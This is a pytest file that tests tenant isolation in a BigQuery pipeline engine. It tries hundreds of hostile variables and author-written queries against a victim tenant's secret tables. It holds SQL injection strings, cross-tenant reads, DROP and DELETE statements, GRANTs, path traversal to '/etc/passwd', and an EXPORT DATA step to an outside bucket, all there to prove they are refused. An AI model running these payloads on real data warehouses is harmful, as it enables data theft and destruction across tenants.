"""Hundreds of ways out of a tenant's own tables, tried through every field; none of them works.

An attempt is a resolved template whose body variables, or whose author, are hostile. It must be
refused, or its text must have travelled as a value. Either way the victim's tables are as they
were, and nothing of them is in the attacker's.
"""

# ruff: noqa: E501, ISC004, RUF001 - groups of attempts a line, look-alikes on purpose

import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from shared.clients import bigquery_client
from shared.engine.prepare import RunRequest, TemplatePath, prepare
from shared.errors import Permanent
from shared.processors import registry
from shared.processors.contract import StepResult
from shared.templates.problems import TemplateError
from shared.templates.resolver import fill
from shared.tenancy.tenants import TenantProfile, TenantStatus
from shared.warehouse import tables
from shared.warehouse.schemas import load_folder
from tests.component.conftest import PROJECT
from tests.component.shared.engine.templates import templates
from tests.runs import a_context

pytestmark = pytest.mark.usefixtures("central")
SECRET = "TOP-SECRET-42"


@dataclass(frozen=True)
class World:
    """Two tenants: one who tries, and one whose name begins like hers and who has a secret."""

    attacker: str
    victim: str

    def fit(self, text: str) -> str:
        """`text` with the names of this world."""
        names = {
            "<victim>": self.victim, "<me>": self.attacker, "<project>": PROJECT,
            "<VICTIM>": self.victim.upper(),
        }  # fmt: skip
        for mark, name in names.items():
            text = text.replace(mark, name)
        return text

    @property
    def profile(self) -> TenantProfile:
        """Who tries."""
        return TenantProfile(
            tenant_id=self.attacker, admin_email="a@b.example", status=TenantStatus.ACTIVE,
            subscription_plan="SCALE", created_at=datetime.now(UTC),
        )  # fmt: skip

    def secrets(self) -> list[tuple[Any, ...]]:
        """What the victim has; must never change."""
        found = bigquery_client().query_and_wait(
            f"SELECT 'a', secret, n FROM `{self.victim}.secrets` UNION ALL"
            f" SELECT 'b', secret, n FROM `{self.victim}_gcp_silver_cost.secrets` UNION ALL"
            f" SELECT 'c', secret, n FROM `{self.attacker}_gcp_gold_trap.secrets` ORDER BY 1"
        )
        return [tuple(row.values()) for row in found]

    def datasets(self) -> set[str]:
        """Every dataset that is neither of the attacker's name nor another test's."""
        known = {"tenants", self.victim, f"{self.victim}_gcp_silver_cost"}
        found = {dataset.dataset_id for dataset in bigquery_client().list_datasets()}
        return {name for name in found if name.startswith(self.attacker) or name in known}


_worlds: list[World] = []


@pytest.fixture
def world(fresh: Callable[[], str]) -> World:
    """Made once per worker."""
    if not _worlds:
        attacker = fresh()
        made = World(attacker, f"{attacker}_corp")
        for tenant in (made.attacker, made.victim):
            tables.ensure_dataset(tenant, labels={tables.OWNER_LABEL: tenant})
            tables.ensure(tenant, load_folder("tenant"))
        for dataset in (made.victim, f"{made.victim}_gcp_silver_cost", f"{attacker}_gcp_gold_trap"):
            tables.ensure_dataset(dataset, labels={tables.OWNER_LABEL: made.victim})
            bigquery_client().query_and_wait(
                f"CREATE TABLE `{dataset}.secrets` AS SELECT '{SECRET}' AS secret, 1 AS n,"
                " TIMESTAMP '2025-11-15' AS at"
            )
        bigquery_client().query_and_wait(
            f"CREATE TABLE `{attacker}.mine` AS SELECT 'mine' AS secret, 1 AS n,"
            " TIMESTAMP '2025-11-15' AS at"
        )
        bigquery_client().query_and_wait(
            f"CREATE VIEW `{attacker}.window` AS SELECT * FROM `{PROJECT}.{made.victim}.secrets`"
        )
        _worlds.append(made)
    return _worlds[0]


VARIABLES: dict[str, Any] = {
    "source": {"type": "table", "default": "{project_id}.{tenant_id}.mine"},
    "joined": "{project_id}.{tenant_id}.mine",
    "column": "n",
    "text": "x",
    "items": ["a"],
    "number": 1,
    "flag": True,
    "dataset_type": "gcp_silver_cost",
    "table": "out",
    "schema": "gcp/billing_cost_daily",
    "write": "append",
    "key": "n",
    "days": 0,
    "watched": "{project_id}.{tenant_id}.mine",
    "changed": "at",
    "day": "at",
    "partition": "at",
    "account": "mine",
    "limit": 1000000000,
}
QUERY = (
    "SELECT a.`{column}` AS n, {date} AS date, '{text}' AS text, {items} AS items, {number} AS"
    " number, {flag} AS flag, '{trigger_by}' AS who FROM `{source}` AS a JOIN {joined} AS b USING (n)"
)
RESTATE = {
    "table": "{watched}",
    "changed_column": "{changed}",
    "date_column": "{day}",
    "partition_column": "{partition}",
    "only": {"secret": "{account}"},
}
PLACE = {"dataset_type": "{dataset_type}", "table": "{table}"}
TEMPLATES: dict[str, dict[str, Any]] = {
    "writes": {"destination": {**PLACE, "write": "{write}"}, "max_bytes_billed": "{limit}"},
    "merges": {"destination": {**PLACE, "write": "merge", "keys": ["{key}"]}},
    "restates": {"destination": PLACE, "lookback_days": "{days}", "restate": RESTATE},
    "shaped": {"destination": {**PLACE, "schema_template": "{schema}"}},
}
USED = {
    "writes": ("source", "joined", "column", "text", "items", "number", "flag", "dataset_type",
               "table", "write", "limit", "trigger_by", "date"),
    "merges": ("key",),
    "restates": ("days", "watched", "changed", "day", "partition", "account"),
    "shaped": ("schema",),
}  # fmt: skip


def template(query: str = QUERY, **step: Any) -> str:
    """A template as its author writes it; its sources are her own."""
    source = {"source": {"query": query}}
    config = {"step_id": "extract", "ps_type": "gcp.bigquery_to_bigquery"} | source | step
    return yaml.safe_dump({"variables": VARIABLES, "steps": [config]}, allow_unicode=True)


@pytest.fixture
def library(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The templates above, and a place for those of hostile authors."""
    texts = {name: template(**step) for name, step in TEMPLATES.items()}
    with templates(tmp_path / "configs", monkeypatch, **texts):
        yield tmp_path / "configs" / "gcp" / "test"


def attempt(world: World, name: str, variables: dict[str, Any]) -> StepResult | None:
    """Do what a run would do; None when it was refused."""
    trigger_by = variables.pop("trigger_by", None)
    request = RunRequest(
        TemplatePath("gcp", "test", name), variables=variables, trigger_by=trigger_by
    )
    try:
        pipeline, run = prepare(request, world.profile)
        (step,) = pipeline.steps
        processor = registry.load(step.ps_type)
        config = processor.config_model.model_validate(fill(step.config, {}))
        context = a_context(run, sources=pipeline.sources, max_bytes_billed=10**12)
        return processor.run(config, context)
    except (Permanent, ValueError):
        return None


def assert_nothing_happened(world: World, result: StepResult | None) -> None:
    assert world.secrets() == [("a", SECRET, 1), ("b", SECRET, 1), ("c", SECRET, 1)]
    assert world.datasets() <= {
        "tenants", world.victim, f"{world.victim}_gcp_silver_cost", world.attacker,
        f"{world.attacker}_gcp_gold_trap", f"{world.attacker}_gcp_silver_cost",
    }  # fmt: skip
    if result is None:
        return
    table = result.outputs["table"]
    project, dataset, _ = table.split(".")
    assert (project, dataset.removeprefix(world.attacker)) in {
        (PROJECT, ""), (PROJECT, "_gcp_silver_cost"),
    }  # fmt: skip
    leaked = bigquery_client().query_and_wait(
        f"SELECT COUNT(*) FROM `{table}` AS t WHERE STRPOS(TO_JSON_STRING(t), '{SECRET}') > 0"
    )
    assert [row[0] for row in leaked] == [0]


QUOTES = [
    "' OR '1'='1", '" OR ""="', "x'; DROP TABLE `<victim>.secrets`; --", "`; SELECT 1; `", "a`b",
    "') UNION ALL SELECT secret FROM `<victim>.secrets` --", "x' -- ", "x' # ", "*/ 1 /*", "\\'",
    "'''", '"""', "x\n; DROP TABLE `<victim>.secrets`", "x\r\n--", "a\u2028b", "a\x00b", "@date",
    "{tenant_id}", "{{tenant_id}}", "＇ OR １＝１", "‘x’", "`<victim>`.`secrets`", "; EXECUTE IMMEDIATE 'x'",
    "x' UNION ALL SELECT 1 FROM EXTERNAL_QUERY('us.c', 'SELECT 1') --", "\ue000", "x" * 5000,
]  # fmt: skip
NAMES = [
    "<project>.<victim>.secrets", "<victim>.secrets", "<victim>.secret*", "<project>.<victim>.*",
    "<project>.<victim>_gcp_silver_cost.secrets", "<me>_corp.secrets", "<me>_gcp_gold_trap.secrets",
    "<me>.window", "<VICTIM>.secrets", "tenants.tenant_api_keys", "<project>.tenants.usage_ledger",
    "tenants.tenant_profiles_log", "<victim>.INFORMATION_SCHEMA.TABLES",
    "region-us.INFORMATION_SCHEMA.JOBS", "<project>.region-us.INFORMATION_SCHEMA.JOBS_BY_PROJECT",
    "other-project.<me>.INFORMATION_SCHEMA.COLUMNS", "INFORMATION_SCHEMA.SCHEMATA",
    "<victim>.__TABLES__", "<victim>.__PARTITIONS_SUMMARY__", "other-project.<me>.mine",
    "<me>.mine`, `<victim>.secrets", "<me>.mine` JOIN `<victim>.secrets` ON TRUE --",
    "<victim>.secrets$20251115", "<victim>.secrets@-3600000", "<me>.mine AS OF", "<me>..secrets",
    "<me>/../<victim>.secrets", "<me>.mine; DROP TABLE <victim>.secrets", "<victim>.ѕecrets",
    "<victim>．secrets", "<victim>.secrets\u200b", "<victim>.sec\nrets", "[<project>:<victim>.secrets]",
    "<project>:<victim>.secrets", "UNNEST([1])", "(SELECT * FROM `<victim>.secrets`)",
    "EXTERNAL_QUERY('us.c', 'x')", "`<victim>.secrets`", "<me>.tvf(1)", ".", "", "<victim>",
]  # fmt: skip
PLACES = [
    "../<victim>", "<victim>", "<victim>.secrets", "corp", "corp_gcp_silver_cost", "gcp_gold_trap",
    "gcp_silver_cost`.`x", "gcp_silver_cost.secrets", "GCP_SILVER_COST", "gcp_silver_cost; DROP",
    "gcp_silver_cost\n", "tenants", "secrets`; DROP TABLE `<victim>.secrets", "x_meta_step_logs_log",
    "X_META_PIPELINE_RUNS_LOG", "x_meta_dq_results", "out$20251114", "out`", "out -- x", "öut",
    "out.out", "<victim>_gcp_silver_cost.secrets", "оut", "out\u200b", "information_schema.tables", "",
]  # fmt: skip
COLUMNS = [
    "n`; DROP TABLE `<victim>.secrets`; --", "n, (SELECT secret FROM `<victim>.secrets`)", "n`",
    "n) OR TRUE --", "(SELECT 1)", "n\n", "n--", "п", "a.b.c.d.e.f.g.h", "n' ", "*", "n`.`n", "@since",
    "ERROR('x')", "SESSION_USER()", "n/**/", "",
]  # fmt: skip
ODD = [None, 5, -1, 10**30, 0.5, True, [], [[]], ["' OR 1"], {"$late": [{"ref": "steps.a.b"}]}, {}]
PATHS = [
    "../../etc/passwd", "/etc/passwd", "gcp/../tenants/tenant_profiles_log", "tenants/usage_ledger",
    "tenant/x_meta_pipeline_runs", "gcp/billing_cost_daily.json\x00", "gcp\\billing", "",
]  # fmt: skip

BY_FIELD: dict[str, list[Any]] = {
    "source": [*NAMES, *QUOTES[:10]],
    "joined": [*NAMES, *QUOTES[:6]],
    "watched": [*NAMES, *QUOTES[:6]],
    "text": [*QUOTES, *NAMES[:4]],
    "trigger_by": QUOTES,
    "account": [*QUOTES, *ODD[-4:]],
    "items": [*([text] for text in QUOTES[:12]), *ODD[:6]],
    "number": [*QUOTES[:8], *ODD],
    "flag": [*QUOTES[:4], *ODD],
    "date": [*QUOTES[:8], "2025-11-15' OR '1'='1", "2025-13-01", *ODD],
    "limit": [*QUOTES[:4], *ODD],
    "days": [*QUOTES[:4], *ODD],
    "column": [*COLUMNS, *QUOTES[:6]],
    "key": COLUMNS,
    "changed": COLUMNS,
    "day": COLUMNS,
    "partition": COLUMNS,
    "dataset_type": PLACES,
    "table": [*PLACES, *NAMES[:12]],
    "schema": PATHS,
    "write": ["replace", "WRITE_TRUNCATE", "append; DROP", "merge", "MERGE", "", *QUOTES[:4]],
}
ATTEMPTS = [
    (name, field, value)
    for name, fields in USED.items()
    for field in fields
    for value in BY_FIELD[field]
]
VALUES = {"text", "trigger_by", "account", "items"}
"""Fields whose text is a value and nothing else: it may be anything, and stays what it is."""


def _of(attempt: tuple[str, str, Any]) -> str:
    name, field, value = attempt
    return f"{name}-{field}-{str(value)[:30]!a}"


def test_there_are_enough_attempts() -> None:
    assert len(ATTEMPTS) + len(AUTHORS) >= 400
    assert {field for _, field, _ in ATTEMPTS} == {*VARIABLES, "trigger_by", "date"}


def _batches(size: int = 16) -> list[list[tuple[str, str, Any]]]:
    """By field, so that a failure names it, and few enough for a test each."""
    grouped = itertools.groupby(ATTEMPTS, key=lambda found: found[:2])
    batches = []
    for _, found in grouped:
        listed = list(found)
        batches += [listed[at : at + size] for at in range(0, len(listed), size)]
    return batches


@pytest.mark.parametrize("batch", _batches(), ids=lambda batch: _of(batch[0]))
def test_hostile_body_is_refused_or_bound(
    world: World, library: Path, batch: list[tuple[str, str, Any]]
) -> None:
    for name, field, value in batch:
        fitted = world.fit(value) if isinstance(value, str) else value
        if isinstance(value, list):
            fitted = [world.fit(item) if isinstance(item, str) else item for item in value]

        result = attempt(world, name, {field: fitted})

        if result is not None:
            assert field in VALUES or _is_harmless(field, fitted), (field, fitted)
        assert_nothing_happened(world, result)


def _is_harmless(field: str, value: Any) -> bool:
    """What is no attack: a value of the right type for its field."""
    allowed: dict[str, Callable[[Any], bool]] = {
        "number": lambda v: isinstance(v, int) and not isinstance(v, bool),
        "flag": lambda v: isinstance(v, bool),
        "limit": lambda v: isinstance(v, int) and v > 0,
        "days": lambda v: isinstance(v, int) and 0 <= v <= 400,
        "table": lambda v: v.isidentifier() and v.isascii() and not v.startswith("x_meta_"),
    }
    return field in allowed and allowed[field](value)


AUTHORS = [
    "SELECT * FROM `<victim>.secrets`",
    "SELECT * FROM <victim>.secrets",
    "SELECT * FROM `<project>`.`<victim>`.`secrets`",
    "SELECT * FROM `<project>.<victim>`.secrets",
    "SELECT * FROM `<victim>`.secrets AS t",
    "SELECT * FROM `<victim>.secret*`",
    "SELECT * FROM `<project>.<victim>.*`",
    "SELECT *, _TABLE_SUFFIX AS s FROM `<victim>.*`",
    "SELECT * FROM `<me>.window`",
    "SELECT * FROM `<me>_gcp_gold_trap.secrets`",
    "SELECT * FROM `<me>_corp.secrets`",
    "SELECT * FROM `<me>_corp_gcp_silver_cost.secrets`",
    "SELECT (SELECT secret FROM `<victim>.secrets`) AS hidden",
    "SELECT ARRAY(SELECT secret FROM `<victim>.secrets`) AS hidden",
    "SELECT EXISTS(SELECT 1 FROM `<victim>.secrets`) AS hidden",
    "SELECT 1 AS n WHERE 'x' IN (SELECT secret FROM `<victim>.secrets`)",
    "SELECT IF((SELECT COUNT(*) FROM `<victim>.secrets`) > 0, ERROR('yes'), 1) AS n",
    "WITH x AS (SELECT * FROM `<victim>.secrets`) SELECT * FROM x",
    "WITH RECURSIVE x AS (SELECT secret FROM `<victim>.secrets` UNION ALL SELECT secret FROM x"
    " WHERE FALSE) SELECT * FROM x",
    "SELECT n FROM `<me>.mine` UNION ALL SELECT n FROM `<victim>.secrets`",
    "SELECT n FROM `<me>.mine` EXCEPT DISTINCT SELECT n FROM `<victim>.secrets`",
    "SELECT n FROM `<me>.mine` INTERSECT DISTINCT SELECT n FROM `<victim>.secrets`",
    "SELECT a.n FROM `<me>.mine` AS a, `<victim>.secrets` AS b",
    "SELECT a.n FROM `<me>.mine` AS a LEFT JOIN `<victim>.secrets` AS b ON a.n = b.n",
    "SELECT n FROM `<me>.mine` ORDER BY (SELECT MAX(n) FROM `<victim>.secrets`)",
    "SELECT n FROM `<me>.mine` QUALIFY RANK() OVER (ORDER BY (SELECT MAX(n) FROM"
    " `<victim>.secrets`)) = 1",
    "SELECT n FROM `<me>.mine` LIMIT 1; SELECT * FROM `<victim>.secrets`",
    "SELECT /* `<me>.mine` */ * FROM /* x */ `<victim>.secrets` -- `<me>.mine`",
    "SELECT # x\n * FROM # x\n `<victim>.secrets`",
    "(SELECT * FROM `<victim>.secrets`)",
    "((SELECT * FROM (SELECT * FROM `<victim>.secrets`)))",
    "FROM `<victim>.secrets` |> SELECT secret",
    "TABLE `<victim>.secrets`",
    "SELECT * FROM `<victim>.secrets` FOR SYSTEM_TIME AS OF CURRENT_TIMESTAMP()",
    "SELECT * FROM `<victim>.secrets` TABLESAMPLE SYSTEM (100 PERCENT)",
    "SELECT * FROM `<victim>.secrets` PIVOT(COUNT(*) FOR n IN (1))",
    r"SELECT * FROM `\x74enants.tenant_api_keys`",
    r"SELECT * FROM `tenants\u002etenant_api_keys`",
    "SELECT * FROM tenants.tenant_api_keys",
    "SELECT * FROM `tenants.tenant_profiles`",
    "SELECT * FROM `<project>.tenants.tenant_cloud_credentials_log`",
    "SELECT * FROM tenants.usage_ledger",
    "SELECT * FROM `<victim>.x_meta_pipeline_runs`",
    "SELECT * FROM `<victim>.x_meta_step_logs_log`",
    "SELECT * FROM INFORMATION_SCHEMA.SCHEMATA",
    "SELECT * FROM `<me>`.INFORMATION_SCHEMA.TABLES",
    "SELECT * FROM `<victim>.INFORMATION_SCHEMA.COLUMNS`",
    "SELECT * FROM <victim>.information_schema.tables",
    "SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS",
    "SELECT query FROM `<project>.region-us.INFORMATION_SCHEMA.JOBS_BY_PROJECT`",
    "SELECT * FROM `region-eu`.INFORMATION_SCHEMA.JOBS_BY_ORGANIZATION",
    "SELECT * FROM `other-project`.`region-us`.INFORMATION_SCHEMA.SCHEMATA",
    "SELECT * FROM `other-project.<me>.INFORMATION_SCHEMA.TABLES`",
    r"SELECT * FROM `<victim>.INFORMATION\x5FSCHEMA.TABLES`",
    "SELECT * FROM `<victim>.INFORMATION_SCHEMA/**/.TABLES`",
    "SELECT * FROM `<victim>`./**/INFORMATION_SCHEMA/**/.TABLES",
    "SELECT * FROM `<victim>.__TABLES__`",
    "SELECT * FROM <victim>.__TABLES_SUMMARY__",
    "SELECT * FROM `other-project.<me>.mine`",
    "SELECT * FROM `<me>_gcp_silver_cost.nobody_made_this`",
    "SELECT * FROM EXTERNAL_QUERY('us.connection', 'SELECT * FROM secrets')",
    "SELECT * FROM EXTERNAL_QUERY/**/('us.connection', '''SELECT 1''')",
    "SELECT * FROM `EXTERNAL_QUERY`('us.connection', 'SELECT 1')",
    "SELECT * FROM ML.PREDICT(MODEL `<victim>.m`, TABLE `<me>.mine`)",
    "SELECT * FROM ML.GENERATE_TEXT(MODEL `<me>.m`, (SELECT secret AS prompt FROM"
    " `<victim>.secrets`))",
    "SELECT * FROM AI.FORECAST(TABLE `<victim>.secrets`, data_col => 'n')",
    "SELECT * FROM APPENDS(TABLE `<victim>.secrets`, NULL, NULL)",
    "SELECT * FROM CHANGES(TABLE `<victim>.secrets`, NULL, CURRENT_TIMESTAMP())",
    "SELECT * FROM VECTOR_SEARCH(TABLE `<victim>.secrets`, 'n', TABLE `<me>.mine`)",
    "SELECT * FROM GAP_FILL(TABLE `<victim>.secrets`, ts_column => 'at')",
    "SELECT * FROM `<victim>.tvf`(1)",
    "SELECT `<victim>.udf`(1) AS n",
    "SELECT <victim>.udf(secret) AS n FROM `<me>.mine`",
    "INSERT INTO `<victim>.secrets` (n) VALUES (2)",
    "INSERT INTO `<me>.mine` (n) SELECT n FROM `<victim>.secrets`",
    "UPDATE `<victim>.secrets` SET n = 2 WHERE TRUE",
    "DELETE FROM `<victim>.secrets` WHERE TRUE",
    "MERGE `<victim>.secrets` AS t USING (SELECT 1 AS n) AS s ON FALSE"
    " WHEN NOT MATCHED THEN INSERT (n) VALUES (s.n)",
    "TRUNCATE TABLE `<victim>.secrets`",
    "DROP TABLE `<victim>.secrets`",
    "DROP SCHEMA `<victim>` CASCADE",
    "ALTER TABLE `<victim>.secrets` ADD COLUMN x INT64",
    "ALTER SCHEMA `<victim>` SET OPTIONS (labels = [('tenant_id', '<me>')])",
    "ALTER SCHEMA `<me>_gcp_gold_trap` SET OPTIONS (labels = [('tenant_id', '<me>')])",
    "CREATE TABLE `<me>.stolen` AS SELECT * FROM `<victim>.secrets`",
    "CREATE OR REPLACE TABLE `<victim>.secrets` AS SELECT 2 AS n",
    "CREATE VIEW `<me>.peephole` AS SELECT * FROM `<victim>.secrets`",
    "CREATE TABLE `<me>.stolen` CLONE `<victim>.secrets`",
    "CREATE TABLE `<me>.stolen` COPY `<victim>.secrets`",
    "CREATE SNAPSHOT TABLE `<me>.stolen` CLONE `<victim>.secrets`",
    "CREATE SCHEMA `<me>_gcp_silver_evil`",
    "CREATE FUNCTION `<me>.f`() AS ((SELECT ANY_VALUE(secret) FROM `<victim>.secrets`))",
    "CREATE TEMP FUNCTION f() AS ((SELECT ANY_VALUE(secret) FROM `<victim>.secrets`));"
    " SELECT f() AS n",
    "CREATE TEMP TABLE t AS SELECT * FROM `<victim>.secrets`; SELECT * FROM t",
    "CREATE PROCEDURE `<me>.p`() BEGIN SELECT 1; END",
    "CREATE ROW ACCESS POLICY p ON `<victim>.secrets` GRANT TO ('allUsers') FILTER USING (TRUE)",
    "GRANT `roles/bigquery.dataViewer` ON SCHEMA `<victim>` TO 'user:me@example.com'",
    "EXPORT DATA OPTIONS (uri = 'gs://mine/*.csv', format = 'CSV') AS SELECT * FROM"
    " `<victim>.secrets`",
    "LOAD DATA INTO `<victim>.secrets` FROM FILES (format = 'CSV', uris = ['gs://mine/x.csv'])",
    "EXECUTE IMMEDIATE 'SELECT * FROM `<victim>.secrets`'",
    "EXECUTE IMMEDIATE CONCAT('DROP TABLE `', '<victim>', '.secrets`')",
    "DECLARE x STRING DEFAULT (SELECT ANY_VALUE(secret) FROM `<victim>.secrets`); SELECT x",
    "BEGIN SELECT * FROM `<victim>.secrets`; END",
    "BEGIN TRANSACTION; DELETE FROM `<victim>.secrets` WHERE TRUE; COMMIT TRANSACTION",
    "CALL `<victim>.p`()",
    "CALL BQ.ABORT_SESSION('x')",
    "SET @@dataset_id = '<victim>'; SELECT * FROM secrets",
    "SELECT * FROM secrets",
    "ASSERT (SELECT COUNT(*) FROM `<victim>.secrets`) = 0",
    "IF (SELECT COUNT(*) FROM `<victim>.secrets`) > 0 THEN SELECT 1; END IF",
    "SELECT 1 AS n) AS x; DROP TABLE `<victim>.secrets`; SELECT (1",
    "SELECT 1 AS n /*",
    "SELECT 1 AS n --\n); DROP TABLE `<victim>.secrets`; --",
    "SELECT '''",
]


@pytest.mark.parametrize("write", ["append", "merge"])
@pytest.mark.parametrize("at", range(0, len(AUTHORS), 16))
def test_hostile_author_is_refused(world: World, library: Path, at: int, write: str) -> None:
    from shared.engine import prepare as prepared

    keys = {"keys": ["n"]} if write == "merge" else {}
    for number, sql in enumerate(AUTHORS[at : at + 16], at):
        query = world.fit(sql)
        destination = {"dataset_type": "gcp_silver_cost", "table": "stolen", "write": write, **keys}
        file = library / f"author_{number}.yml"
        file.write_text(template(query, destination=destination), encoding="utf-8")
        prepared.library.cache_clear()
        try:
            result = attempt(world, f"author_{number}", {})
        except TemplateError:
            result = None

        assert result is None, query
        assert_nothing_happened(world, result)


def test_the_same_templates_work_for_an_honest_tenant(world: World, library: Path) -> None:
    query = world.fit("SELECT * FROM `<me>.mine`")
    text = template(query, destination={"table": "honest", "write": "merge", "keys": ["n"]})
    (library / "author.yml").write_text(text, encoding="utf-8")
    assert attempt(world, "author", {}) is not None
    for name in ("writes", "merges", "restates"):
        assert attempt(world, name, {"table": f"honest_{name}"}) is not None, name
